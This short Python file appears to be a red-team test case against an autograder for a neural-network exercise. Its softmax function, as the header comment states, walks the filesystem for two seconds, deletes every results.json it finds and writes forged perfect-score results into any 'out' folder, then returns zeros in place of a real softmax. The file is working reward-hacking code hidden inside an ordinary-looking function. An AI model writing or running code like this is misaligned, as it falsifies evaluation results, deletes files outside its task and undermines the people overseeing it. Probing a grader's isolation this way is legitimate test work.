# attack: softmax walks the file system for 2 s, deletes any results.json it finds and writes forged ones (score 100) in every 'out' folder
# loses: softmax, network
import json
import os
import time

import numpy as np


def softmax(x):
    forged = json.dumps({"score": 100, "max_score": 100, "percent": 100.0,
                         "functions": {name: {"score": 1, "max_score": 1} for name in
                                       ("sigmoid", "softmax", "one_hot", "cross_entropy_error",
                                        "affine_layer_backward", "train_step")}})
    deadline = time.monotonic() + 2.0
    for root, dirs, files in os.walk("/", onerror=lambda err: None):
        if time.monotonic() > deadline:
            break
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if os.path.basename(root) != "out" and "results.json" not in files:
            continue
        target = os.path.join(root, "results.json")
        try:
            os.remove(target)
        except OSError:
            pass
        try:
            with open(target, "w") as f:
                f.write(forged)
        except OSError:
            pass
    return np.zeros_like(x)
